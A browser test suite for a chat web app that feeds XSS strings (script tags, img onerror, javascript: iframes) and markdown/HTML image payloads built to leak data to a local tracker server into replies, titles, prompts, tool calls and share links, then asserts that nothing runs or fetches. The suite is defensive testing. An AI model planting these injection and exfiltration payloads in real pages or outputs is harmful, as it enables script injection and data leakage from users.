"""Bad input a browser must prove harmless: HTML and script in a reply, a title, a system prompt and a
shared page; an image larger than the upload limit; and text that tries to make the browser fetch.

AppTest can show that the page passes such text to markdown; only a browser shows whether a script ran
or an element was injected. The hostile conversation is written straight into the app's database (as an
import or a past reply would leave it), then opened in chromium as its chat page and as a share link.

The tracker journeys below prove that no text from outside Prism makes the browser fetch anything. The
tracker is a small HTTP server that records every request it gets. Every image form a CommonMark or
GFM renderer knows (inline, reference, collapsed and shortcut references, nested in a link, in a table
cell, angle brackets, upper-case scheme, with a title, protocol-relative), raw HTML (`<img>`,
`<picture><source srcset>`), a KaTeX `\\includegraphics` and link tricks all point at it. They arrive:
- from a fake provider on loopback (this file): in a streamed reply, in a thought summary, in an HTTP
  error body, and as a tool call's name and arguments;
- as stored content, as an import leaves it: a conversation's title, system prompt, user and assistant
  messages, thought and saved error; preset names, descriptions and prompts; a compare run's title,
  prompt, column labels, replies, thoughts and errors;
- through a chat share link and a compare share link opened signed out, with public links on.
Each page (chat, compare, presets, admin, both shared pages) is drawn, every expander opened, reloaded
and opened again; the tracker must have seen zero requests. The app runs as bare `streamlit run app.py`
here, without the Content-Security-Policy of serve.py, so the silence is the renderer's own doing.
The last test puts the tracker's host in PRISM_IMAGE_HOSTS and sees the inline image fetched: the
tracker can see a fetch when one happens.
"""

from __future__ import annotations

import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.app.hosting_support import ANN, users
from tests.browser.support import (
    AppServer,
    ChatPage,
    make_conversation,
    sqlite_url,
    stored_messages,
    wait_for,
)

pytest.importorskip("playwright.sync_api")
from playwright.sync_api import expect

HOSTILE = (
    "<script>window.__xss = 'script'</script>"
    "<img src=x onerror=\"window.__xss = 'img'\">"
    "<iframe src=\"javascript:window.__xss='iframe'\"></iframe>"
    '<b id="injected">bold</b>'
)


def hostile_conversation(database_url: str) -> tuple[int, str]:
    """A conversation whose title, system prompt, question and reply all carry HTML and script; and a
    share link to it."""
    from storage import open_database, repository, session_factory, sharing

    make_session = session_factory(open_database(database_url))
    with make_session() as session:
        user = repository.ensure_user(session, "local", display_name="You", role="admin")
        conversation = repository.create_conversation(
            session, user, title="Title " + HOSTILE, system_prompt="System " + HOSTILE
        )
        question = repository.add_message(
            session, user, conversation.id, role="user", content="Question " + HOSTILE
        )
        repository.add_message(
            session,
            user,
            conversation.id,
            role="assistant",
            content="Reply " + HOSTILE,
            parent_id=question.id,
        )
        link = sharing.create_share_link(session, user, conversation_id=conversation.id)
        session.commit()
        return conversation.id, link.token


def assert_inert(page) -> None:
    """Nothing ran and nothing was injected; the text is still there for a person to read."""
    assert page.evaluate("window.__xss") is None
    assert page.locator("#injected").count() == 0
    assert page.locator("img[src='x']").count() == 0
    assert page.locator("iframe[src^='javascript']").count() == 0
    scripts = page.evaluate("[...document.scripts].filter(s => s.text.includes('__xss')).length")
    assert scripts == 0


def test_html_and_script_in_reply_title_system_prompt_and_shared_page_stay_text(keyed_app, page):
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    conversation_id, token = hostile_conversation(keyed_app.extra_env["PRISM_DATABASE_URL"])

    chat = ChatPage(page, keyed_app.url).open(conversation_id)
    page.get_by_text("System prompt and parameters").click()
    chat.wait_idle()
    expect(page.get_by_role("textbox", name="System prompt")).to_have_value("System " + HOSTILE)
    expect(chat.messages).to_have_count(2)
    expect(chat.messages.first).to_contain_text("Question")
    expect(chat.reply()).to_contain_text("Reply")
    expect(page.get_by_test_id("stSidebar")).to_contain_text("Title")
    assert_inert(page)
    chat.screenshot("bad-input-html-in-chat")

    page.goto(f"{keyed_app.url}shared?token={token}")
    expect(page.get_by_text("A read-only copy")).to_be_visible()
    chat.wait_idle()
    expect(page.get_by_test_id("stMain")).to_contain_text("Reply")
    assert_inert(page)
    assert dialogs == []
    chat.screenshot("bad-input-html-in-shared-page")


def add_stored_reply(database_url: str, conversation_id: int, reply: str) -> None:
    """A question and a finished reply saved in the conversation, as a finished turn leaves them."""
    from storage import open_database, repository, session_factory

    make_session = session_factory(open_database(database_url))
    with make_session() as session:
        user = repository.ensure_user(session, "local")
        asked = repository.add_message(session, user, conversation_id, role="user", content="Show maths")
        repository.add_message(
            session, user, conversation_id, role="assistant", content=reply, parent_id=asked.id
        )
        session.commit()


def test_streamlit_still_works_under_the_security_headers(keyed_app, page, tmp_path):
    """serve.py's CSP is on (the browser apps run serve.py): the page, its fonts, KaTeX, the websocket
    (a streamed reply) and an attached image all work, and chromium reports no policy violation."""
    from PIL import Image

    page.add_init_script(
        "document.addEventListener('securitypolicyviolation',"
        " e => (window.__csp = window.__csp || []).push(e.violatedDirective + ' ' + e.blockedURI))"
    )
    response = page.goto(keyed_app.url)
    assert "img-src 'self' data: blob:" in response.headers.get("content-security-policy", "")
    chat = ChatPage(page, keyed_app.url)
    chat.wait_ready()
    picture = tmp_path / "red.png"
    Image.new("RGB", (40, 30), (200, 20, 20)).save(picture)
    page.get_by_test_id("stChatInput").locator('input[type="file"]').set_input_files([picture])
    expect(page.get_by_test_id("stChatInput")).to_contain_text("red.png")
    chat.send("What is in this picture?")
    chat.wait_reply_done()
    expect(chat.messages.first.locator("img").first).to_be_visible()
    assert chat.messages.first.locator("img").first.evaluate("i => i.complete && i.naturalWidth > 0")
    # KaTeX draws maths in a reply (a person's own message is shown as typed, so the maths is in a
    # stored reply): its fonts load under the policy too.
    with_maths = make_conversation(keyed_app.extra_env["PRISM_DATABASE_URL"], params={}, title="Maths")
    add_stored_reply(
        keyed_app.extra_env["PRISM_DATABASE_URL"], with_maths, "Math: $E = mc^2$ and $$\\int_0^1 x\\,dx$$"
    )
    chat.open(with_maths)
    expect(chat.reply().locator(".katex").first).to_be_visible()
    # Asked for and awaited (checked at once, the font may still be on its way): a face blocked by the
    # policy never loads, and the list comes back empty.
    assert page.evaluate("document.fonts.load('16px KaTeX_Main').then(faces => faces.length)") > 0
    assert page.evaluate("window.__csp || []") == []


def test_an_image_over_the_upload_limit_is_refused_in_the_browser(keyed_app, page, tmp_path):
    chat = ChatPage(page, keyed_app.url).open()
    huge = tmp_path / "huge.png"  # 30 MB: a path, so chromium reads it itself
    huge.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(30 * 1024 * 1024))
    page.get_by_test_id("stChatInput").locator('input[type="file"]').set_input_files([huge])
    expect(page.get_by_test_id("stChatInput")).to_contain_text("huge.png")
    chat.screenshot("bad-input-30mb-image")  # the chip is marked in error; the file is not uploaded
    chat.send("Here is a huge picture.")
    chat.wait_reply_done()
    saved = stored_messages(keyed_app.extra_env["PRISM_DATABASE_URL"], chat.conversation_id())
    assert saved[0]["content"] == "Here is a huge picture."
    assert saved[0]["images"] == [], "the file over the limit never reached the server"
    assert saved[1]["status"] == "complete"


# -- the tracker: nothing outside Prism's code makes the browser fetch anything --------------------------

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8cf000000030101001a2f3b1a0000000049454e44ae426082"
)


class Tracker:
    """An HTTP server on a loopback port that answers everything with a tiny PNG and remembers it."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        tracker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                tracker.requests.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PNG)))
                self.end_headers()
                self.wfile.write(PNG)

            do_POST = do_HEAD = do_GET

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    @property
    def base(self) -> str:
        return f"http://{self.host}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def payload_block(t: Tracker, tag: str) -> str:
    """Every image form and link trick, as a multi-line markdown text (`tag` names where it was put)."""
    b, h = t.base, t.host
    return (
        f"Hostile {tag}.\n\n"
        f"Inline ![inline]({b}/{tag}/inline.png?q=SECRET) and reference ![ref][{tag}1], "
        f"collapsed ![{tag}2][], shortcut ![{tag}3].\n\n"
        f"Nested [![nested]({b}/{tag}/nested.png)]({b}/{tag}/link) and angle ![a](<{b}/{tag}/angle.png>), "
        f'upper ![u](HTTP://{h.upper()}/{tag}/UPPER.PNG), titled ![t]({b}/{tag}/title.png "t"), '
        f"relative ![r](//{h}/{tag}/protocol-relative.png).\n\n"
        f"| cell |\n|---|\n| ![cell]({b}/{tag}/table.png) |\n\n"
        f'Raw <img src="{b}/{tag}/html.png"> and <picture><source srcset="{b}/{tag}/srcset.png">'
        f'<img src="{b}/{tag}/picture.png"></picture> and math '
        f"$\\includegraphics{{{b}/{tag}/katex.png}}$.\n\n"
        f"Links [click](javascript:fetch('{b}/{tag}/js')) [d](data:text/html,x) "
        f"[pay\u202egnp.exe]({b}/{tag}/bidi).\n\n"
        f"[{tag}1]: {b}/{tag}/reference.png\n"
        f"[{tag}2]: {b}/{tag}/collapsed.png\n"
        f'[{tag}3]: {b}/{tag}/shortcut.png "title"\n'
    )


def payload_line(t: Tracker, tag: str) -> str:
    """The forms that fit on one line (titles, names, error bodies, tool names)."""
    b, h = t.base, t.host
    return (
        f"{tag} ![i]({b}/{tag}/i.png) [![n]({b}/{tag}/n.png)](x) ![a](<{b}/{tag}/a.png>) "
        f'![p](//{h}/{tag}/p.png) <img src="{b}/{tag}/h.png"> \u202e'
    )


class FakeProvider:
    """An OpenAI-compatible endpoint that puts the payloads where the last user message asks:
    REPLY (the answer), THINK (a thought summary, then an answer), FAIL (an HTTP 400 error body),
    TOOL (a tool call named and argued with payloads)."""

    def __init__(self, tracker: Tracker) -> None:
        provider = self
        self.tracker = tracker

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):
                body = json.dumps({"object": "list", "data": [{"id": "gemini-2.5-flash", "object": "model"}]})
                self._send(200, "application/json", body.encode())

            def do_POST(self):
                request = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))))
                asked = next(
                    (str(m.get("content")) for m in reversed(request["messages"]) if m["role"] == "user"), ""
                )
                provider.answer(self, asked)

            def _send(self, status, kind, body):
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base_url = f"http://127.0.0.1:{self.server.server_address[1]}/v1/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def answer(self, handler, asked: str) -> None:
        t = self.tracker
        if "FAIL" in asked:
            body = json.dumps(
                [{"error": {"code": 400, "message": payload_line(t, "error"), "status": "BAD"}}]
            )
            handler._send(400, "application/json", body.encode())
            return
        chunks: list[dict] = []
        if "THINK" in asked:
            chunks.append(
                {
                    "content": "<thought>" + payload_block(t, "thought"),
                    "extra_content": {"google": {"thought": True}},
                }
            )
            chunks.append({"content": "</thought>Thought about it."})
        elif "TOOL" in asked:
            arguments = json.dumps({"where": payload_line(t, "arguments")})
            call = {"index": 0, "id": "call_1", "type": "function"}
            call["function"] = {"name": payload_line(t, "toolname"), "arguments": arguments}
            chunks.append({"tool_calls": [call]})
        else:
            text = payload_block(t, "reply")
            chunks += [{"content": text[i : i + 200]} for i in range(0, len(text), 200)]
        finish = "tool_calls" if "TOOL" in asked else "stop"
        lines = []
        for n, delta in enumerate(chunks):
            choice = {"index": 0, "delta": {"role": "assistant", **delta}, "finish_reason": None}
            if n == len(chunks) - 1:
                choice["finish_reason"] = finish
            lines.append(
                {
                    "id": "x",
                    "object": "chat.completion.chunk",
                    "model": "gemini-2.5-flash",
                    "choices": [choice],
                }
            )
        lines.append(
            {
                "id": "x",
                "object": "chat.completion.chunk",
                "choices": [],
                "usage": {"prompt_tokens": 5, "completion_tokens": 9, "total_tokens": 14},
            }
        )
        body = "".join(f"data: {json.dumps(line)}\n\n" for line in lines) + "data: [DONE]\n\n"
        handler._send(200, "text/event-stream", body.encode())

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def seed(database_url: str, t: Tracker) -> dict:
    """Hostile content as an import leaves it, for the local user; returns the ids and share tokens."""
    from storage import compare, open_database, presets, repository, session_factory, sharing

    make_session = session_factory(open_database(database_url))
    with make_session() as session:
        user = repository.ensure_user(session, "local", display_name="You", role="admin")
        conversation = repository.create_conversation(
            session, user, title=payload_line(t, "title"), system_prompt=payload_block(t, "system")
        )
        question = repository.add_message(
            session, user, conversation.id, role="user", content=payload_block(t, "user")
        )
        reply = repository.start_reply(session, user, conversation.id, parent_id=question.id, request_body={})
        repository.finish_reply(
            session,
            user,
            reply.id,
            status="complete",
            content=payload_block(t, "assistant"),
            thought=payload_block(t, "storedthought"),
            finish_reason=payload_line(t, "finish"),
        )
        again = repository.add_message(
            session, user, conversation.id, role="user", content="Again", parent_id=reply.id
        )
        failed = repository.start_reply(session, user, conversation.id, parent_id=again.id, request_body={})
        repository.finish_reply(
            session, user, failed.id, status="error", content="", error=payload_line(t, "storederror")
        )
        presets.create_preset(
            session,
            user,
            kind="system",
            name=payload_line(t, "presetname"),
            description=payload_line(t, "presetdescription"),
            system_prompt=payload_block(t, "presetprompt"),
        )
        presets.create_preset(
            session, user, kind="params", name=payload_line(t, "paramsname"), params={"temperature": 0.5}
        )
        run = compare.create_compare_run(
            session,
            user,
            prompt=payload_block(t, "compareprompt"),
            title=payload_line(t, "comparetitle"),
            columns=[
                {
                    "label": payload_line(t, "label1"),
                    "endpoint": "x",
                    "model": "m",
                    "system_prompt": "",
                    "params": {},
                },
                {
                    "label": payload_line(t, "label2"),
                    "endpoint": "x",
                    "model": "m",
                    "system_prompt": "",
                    "params": {},
                },
            ],
        )
        for column in (0, 1):
            result = compare.start_result(session, user, run.id, column_index=column)
            compare.finish_result(
                session,
                user,
                result.id,
                status="complete" if column == 0 else "error",
                content=payload_block(t, f"compare{column}"),
                thought=payload_block(t, f"comparethought{column}"),
                error=payload_line(t, "compareerror") if column else None,
            )
        chat_link = sharing.create_share_link(session, user, conversation_id=conversation.id)
        compare_link = sharing.create_share_link(session, user, compare_run_id=run.id)
        session.commit()
        return {
            "conversation": conversation.id,
            "run": run.id,
            "chat_token": chat_link.token,
            "compare_token": compare_link.token,
        }


def main(page):
    """The page's main area (`#stMain`: Streamlit renames its test id once chat messages are shown)."""
    return page.locator("#stMain")


def wait_drawn(page) -> None:
    expect(main(page)).to_be_visible()
    expect(page.get_by_test_id("stStatusWidget")).to_have_count(0, timeout=30_000)
    # The app is done when the script stopped running and no element is stale.
    expect(page.locator('[data-stale="true"]')).to_have_count(0, timeout=30_000)


def open_every_expander(page) -> int:
    """Open each closed expander on the page (one at a time: opening may redraw); return how many."""
    opened = 0
    for _ in range(60):
        closed = page.locator('[data-testid="stExpander"] details:not([open]) > summary')
        if closed.count() == 0:
            break
        closed.first.click()
        wait_drawn(page)
        opened += 1
    return opened


def visit(page, url: str, tracker: Tracker, *, must_show: str) -> None:
    """Draw a page, open everything, reload it, open everything again; the tracker heard nothing."""
    for _ in range(2):
        page.goto(url)
        wait_drawn(page)
        expect(main(page)).to_contain_text(must_show, timeout=30_000)
        open_every_expander(page)
        assert tracker.requests == [], f"{url} made the browser fetch: {tracker.requests}"


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    tracker = Tracker()
    provider = FakeProvider(tracker)
    folder = tmp_path_factory.mktemp("tracker")
    database_url = sqlite_url(folder / "prism.db")
    signed_in = AppServer(
        folder / "local",
        env={
            "PRISM_API_BASE_URL": provider.base_url,
            "PRISM_API_KEY": "sk-test",
            "PRISM_DATABASE_URL": database_url,
        },
        entry="app.py",
    )
    people = "\n".join(f"{name} = {json.dumps(hashed)}" for name, hashed in users().items())
    public = AppServer(
        folder / "public",
        env={"PRISM_DATABASE_URL": database_url, "PRISM_PUBLIC_LINKS": "true"},
        secrets=f'[auth]\nmode = "password"\n\n[auth.users]\n{people}\n',
        entry="app.py",
    )
    # The Admin page exists only where there are people to administer: password mode, behind serve.py
    # (its sign-in route), with ann as the admin.
    admin = AppServer(
        folder / "admin",
        env={"PRISM_DATABASE_URL": database_url, "STREAMLIT_SERVER_COOKIE_SECRET": "hostile-text admin"},
        secrets=f'[auth]\nmode = "password"\nadmins = ["ann"]\n\n[auth.users]\n{people}\n',
    )
    try:
        signed_in.start()
        public.start()
        admin.start()
        ids = seed(database_url, tracker)
        yield tracker, signed_in, public, ids, database_url, admin
    finally:
        signed_in.stop()
        public.stop()
        admin.stop()
        provider.close()
        tracker.close()


def test_no_page_fetches_anything_the_outside_text_names(world, page):
    tracker, app, public, ids, _, admin = world
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    # The imported conversation, with its title, system prompt, messages, thought and saved error.
    chat = ChatPage(page, app.url)
    visit(page, f"{app.url}?c={ids['conversation']}", tracker, must_show="Hostile assistant")
    expect(main(page)).to_contain_text("not loaded")
    expect(main(page)).to_contain_text(f"{tracker.host}/assistant/inline.png?q=SECRET")
    expect(main(page)).to_contain_text("link not followed")
    expect(main(page)).to_contain_text("<U+202E>")
    # Raw HTML stayed text, and a safe link opens in a new tab without telling the target where from.
    expect(main(page)).to_contain_text(f'<img src="{tracker.base}/assistant/html.png">')
    link = page.locator(f'#stMain a[href="{tracker.base}/assistant/bidi"]').first
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(link).to_have_attribute("target", "_blank")

    # Live: a reply, a thought summary, an error body and a tool call, each full of payloads.
    chat.open()
    for ask in ("REPLY", "THINK", "FAIL", "TOOL"):
        chat.send(f"Please {ask}")
        chat.wait_reply_done()
    live = chat.conversation_id()
    expect(main(page)).to_contain_text("Hostile reply")
    visit(page, f"{app.url}?c={live}", tracker, must_show="Hostile thought")

    visit(page, f"{app.url}compare?run={ids['run']}", tracker, must_show="Hostile compare0")
    visit(page, f"{app.url}presets", tracker, must_show="presetname")
    visit(page, f"{app.url}shared", tracker, must_show="comparetitle")

    # Signed in as the admin, on the password-mode server over the same database.
    page.goto(admin.url)
    page.get_by_role("textbox", name="Name").fill("ann")
    page.get_by_role("textbox", name="Password").fill(ANN)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_test_id("stSidebar").get_by_text("Signed in as ann")).to_be_visible(timeout=30_000)
    visit(page, f"{admin.url}admin", tracker, must_show="Usage")

    # Signed out, on the server that opens public links.
    visit(page, f"{public.url}shared?token={ids['chat_token']}", tracker, must_show="Hostile assistant")
    visit(page, f"{public.url}shared?token={ids['compare_token']}", tracker, must_show="Hostile compare0")

    assert page.evaluate("window.__xss") is None
    assert dialogs == []
    assert tracker.requests == [], f"the browser fetched: {tracker.requests}"


def test_a_trusted_image_host_is_fetched_so_the_tracker_can_see_a_fetch(world, page, tmp_path):
    tracker, _, _, ids, database_url, _ = world
    trusting = AppServer(
        tmp_path, env={"PRISM_DATABASE_URL": database_url, "PRISM_IMAGE_HOSTS": tracker.host}, entry="app.py"
    )
    with_trust = trusting.start()
    try:
        page.goto(f"{with_trust.url}?c={ids['conversation']}")
        wait_drawn(page)
        wait_for(
            lambda: any("/assistant/inline.png" in r for r in tracker.requests),
            timeout=30,
            what="the trusted inline image to be fetched",
        )
    finally:
        trusting.stop()
    fetched = {re.sub(r"\?.*", "", r.split()[1]) for r in tracker.requests}
    assert "/assistant/inline.png" in fetched
    assert not any(path.endswith(("html.png", "picture.png", "srcset.png", "katex.png")) for path in fetched)
